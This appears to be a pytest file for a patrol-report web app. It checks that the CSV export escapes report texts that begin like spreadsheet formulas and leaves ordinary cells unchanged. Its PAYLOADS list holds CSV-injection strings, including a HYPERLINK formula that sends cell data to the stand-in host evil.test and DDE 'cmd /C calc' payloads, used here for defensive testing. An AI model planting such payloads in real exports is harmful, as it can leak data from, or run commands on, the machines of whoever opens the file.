"""The reports' CSV export keeps a patrol's text that starts like a spreadsheet formula as
text (issue 14, finding 4): each payload from the finding comes out with a leading apostrophe
in its cell, and nothing else in the file changes."""

from __future__ import annotations

import csv
import io

import pytest

from tests.support.reports_helpers import local

pytest_plugins = ["tests.support.reports"]

# The payloads of the finding, as a patrol could type them into a report.
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    reader = csv.reader(io.StringIO(text[1:], newline=""), delimiter=";")
    heading, *rows = list(reader)
    return [dict(zip(heading, row, strict=True)) for row in rows]


@pytest.fixture
def reports(acme, make_report):
    """One released report per payload, in the report text, on the night of 14 January."""
    made = {}
    for n, payload in enumerate(PAYLOADS):
        report = make_report(acme, at=local(2026, 1, 14, 22, n), text=payload,
                             released=local(2026, 1, 15, 1, 0))
        made[report.id] = payload
    return made


def test_formula_payloads_in_report_texts_come_out_as_text(client, auth, reports):
    auth.login("kontakt@acme.se")
    rows = _rows(client.get("/reports/export.csv?from=2026-01-14&to=2026-01-14"))
    assert sorted(int(r["Rapport"]) for r in rows) == sorted(reports)
    for row in rows:
        assert row["Rapporttext"] == "'" + reports[int(row["Rapport"])]
    # Every cell: none starts like a formula, whatever column it is in.
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


def test_ordinary_cells_are_unchanged(client, auth, acme, make_report):
    report = make_report(acme, at=local(2026, 1, 14, 23, 10), released=local(2026, 1, 15, 1, 0),
                         text="Musiken sänktes; 3 personer - lugnt efteråt.")
    auth.login("kontakt@acme.se")
    [row] = _rows(client.get("/reports/export.csv?from=2026-01-14&to=2026-01-14"))
    assert row["Rapport"] == str(report.id)
    assert row["Rapporttext"] == "Musiken sänktes; 3 personer - lugnt efteråt."
    assert row["Samtal mottaget"] == "2026-01-14 23:10"
    assert row["Lägenhetsnummer"] == "1102"
